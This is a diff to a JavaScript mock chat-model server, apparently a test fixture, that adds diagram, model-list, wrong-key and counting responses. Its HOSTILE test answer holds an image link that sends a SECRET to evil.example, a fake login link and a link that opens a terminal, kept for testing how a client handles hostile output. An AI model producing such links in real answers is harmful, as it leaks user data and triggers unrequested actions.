@@ -1,8 +1,10 @@
 /**
  * A model that always does the same: it looks at a file, then answers in pieces.
  *
+ * It lists two models, refuses one wrong key and counts to ten when that is asked for.
+ *
  * A question with SLOW gets 100 pieces a second for half a minute; one with HOSTILE an answer that
- * tries to load and run things; one with BROKEN an answer whose connection breaks; one with PARTS a
+ * tries to load and run things; one with DIAGRAM drawings and code; one with BROKEN an answer whose connection breaks; one with PARTS a
  * plan and two helpers, which wait at first so that they can be seen at work.
  */
 
@@ -57,6 +59,33 @@ const HOSTILE = `![logo](https://evil.example/pixel.png?q=SECRET)
 [harmless](https://evil.example/login) and [run](command:workbench.action.terminal.new)
 `;
 
+const DIAGRAM = `The cart asks the prices:
+
+\`\`\`mermaid
+flowchart LR
+  total["Cart.total<br/>shop/cart.py:18"] --> convert["convert(&quot;EUR&quot;)"]
+  convert -->|"once"| round(["round_cents 四舍五入"])
+\`\`\`
+
+\`\`\`mermaid
+flowchart LR
+  total -->
+\`\`\`
+
+\`\`\`mermaid
+gantt
+  title Plan
+\`\`\`
+
+In shop/cart.py:18 one could write:
+
+\`\`\`python
+def total(self, currency: str = "EUR") -> int:
+    cents = sum(price for _, price in self.items)  # counted once
+    return round_cents(convert(cents, currency))
+\`\`\`
+`;
+
 const JOINED = `Two parts were looked at:
 
 - The cart adds up first: \`return round_cents(convert(cents, currency))\` (shop/cart.py:14).
@@ -76,6 +105,9 @@ export async function startModel() {
     let body = '';
     request.on('data', (piece) => (body += piece));
     request.on('end', () => {
+      if (refuseOrList(request, response)) {
+        return;
+      }
       const parsed = JSON.parse(body);
       const record = { headers: request.headers, body: parsed, wasCut: false };
       requests.push(record);
@@ -95,6 +127,22 @@ export async function startModel() {
   };
 }
 
+const WRONG_KEY = 'sk-wrong-0123456789';
+export const OFFERED = ['small-one', 'large-one'];
+
+/** Refuse a key that is wrong, and say which models there are; everything else is a question. */
+function refuseOrList(request, response) {
+  const isWrong = request.headers.authorization === `Bearer ${WRONG_KEY}`;
+  if (isWrong || request.method === 'GET') {
+    const data = OFFERED.map((id) => ({ id, object: 'model' }));
+    const answer = isWrong ? { error: { message: 'Incorrect API key provided' } } : { data };
+    response.writeHead(isWrong ? 401 : 200, { 'Content-Type': 'application/json' });
+    response.end(JSON.stringify(answer));
+    return true;
+  }
+  return false;
+}
+
 async function reply(messages, response) {
   response.writeHead(200, { 'Content-Type': 'text/event-stream' });
   const send = (delta, finish = null) => {
@@ -107,8 +155,12 @@ async function reply(messages, response) {
       send({ content: i % 12 === 11 ? `word ${i}.\n\n` : `word ${i} ` });
       await sleep(10);
     }
+  } else if (question.includes('Count from 1 to 10')) {
+    await sendSlowly('1 2 3 4 5 6 7 8 9 10', send);
   } else if (question.includes('HOSTILE')) {
     await sendSlowly(HOSTILE, send);
+  } else if (question.includes('DIAGRAM')) {
+    await sendSlowly(DIAGRAM, send);
   } else if (question.includes('BROKEN')) {
     await sendSlowly(ANSWER.slice(0, 120), send);
     response.destroy();
@@ -126,7 +178,7 @@ async function reply(messages, response) {
     sendCalls(LOOKS, send);
   }
   send({}, 'stop');
-  const usage = { prompt_tokens: 1840, completion_tokens: 212, total_tokens: 2052 };
+  const usage = { prompt_tokens: 1840, completion_tokens: 212, total_tokens: 2052, prompt_tokens_details: { cached_tokens: 1024 } };
   response.write(`data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 0, model: 'm', choices: [], usage })}\n\n`);
   response.end('data: [DONE]\n\n');
 }
